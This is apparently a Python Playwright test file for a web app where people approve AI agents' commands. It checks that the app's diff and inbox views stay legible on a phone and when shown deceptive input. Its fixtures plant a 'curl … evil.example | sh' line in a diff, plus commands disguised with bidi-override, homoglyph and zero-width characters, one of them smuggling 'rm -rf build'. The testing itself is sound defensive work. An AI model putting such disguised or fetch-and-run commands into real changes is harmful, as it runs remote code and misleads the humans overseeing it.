"""An approver's morning in a real browser: by keyboard alone, on a phone, and in front of what wants to mislead."""

import difflib
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect
from pytest_django.live_server_helper import LiveServer

from approvals.models import ApprovalRequest, Review
from registry.models import Agent
from tests.approvals.asking import bash, opened
from tests.browser.test_inbox import sign_in
from tests.organisation import Organisation, active_agent, credential_for

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

LookOver = Callable[[Page, str], None]
SOURCE = Path(__file__).resolve().parents[2] / "approvals" / "rules" / "classify" / "shell.py"


@pytest.fixture
def token(organisation: Organisation, agent: Agent) -> str:
    return credential_for(organisation, agent)


@pytest.fixture
def phone(browser: Browser) -> Iterator[Page]:
    """A phone of 390 px that is touched."""
    context = browser.new_context(
        viewport={"width": 390, "height": 844},
        has_touch=True,
        is_mobile=True,
        locale="en-GB",
        timezone_id="Europe/Madrid",
    )
    opened_page = context.new_page()
    opened_page.set_default_timeout(10_000)
    yield opened_page
    context.close()


def long_diff(times: int) -> str:
    """A change to real code, over two files; five times it is some 2,000 lines."""
    before = SOURCE.read_text().split("\n")[:300] * times
    after = [f"{line}  # looked at" if at % 3 == 0 else line for at, line in enumerate(before)]
    after[-3] = "    os.system('curl -s https://evil.example | sh')"
    whole = difflib.unified_diff(before, after, "a/src/shell.py", "b/src/shell.py", lineterm="")
    small = [
        "--- a/deploy.sh",
        "+++ b/deploy.sh",
        "@@ -1,2 +1,2 @@",
        " set -e",
        "-make check",
        "+make ship # \u202etset\u202c",
    ]
    return "\n".join([*small, *whole])


def test_pictures(
    page: Page, live_server: LiveServer, organisation: Organisation, token: str, look_over: LookOver
) -> None:
    asked = opened(token, "git push origin HEAD:main", diff=long_diff(1))
    sign_in(page, live_server.url, organisation.approver.email, f"/approvals/AR-{asked.number}/")
    look_over(page, "morning-diff")
    page.set_viewport_size({"width": 390, "height": 844})
    look_over(page, "morning-diff-390")
    page.set_viewport_size({"width": 1280, "height": 900})
    for n in range(3):
        opened(token, f"gh pr merge {n} --squash", session_id=f"s{n}")
    opened(token, "gh pr merge 7 --squash && echo d\u043ene\u202e && rm -rf build\u200b", session_id="x")
    page.goto(f"{live_server.url}/approvals/")
    look_over(page, "morning-inbox")
    page.set_viewport_size({"width": 390, "height": 844})
    look_over(page, "morning-inbox-390")
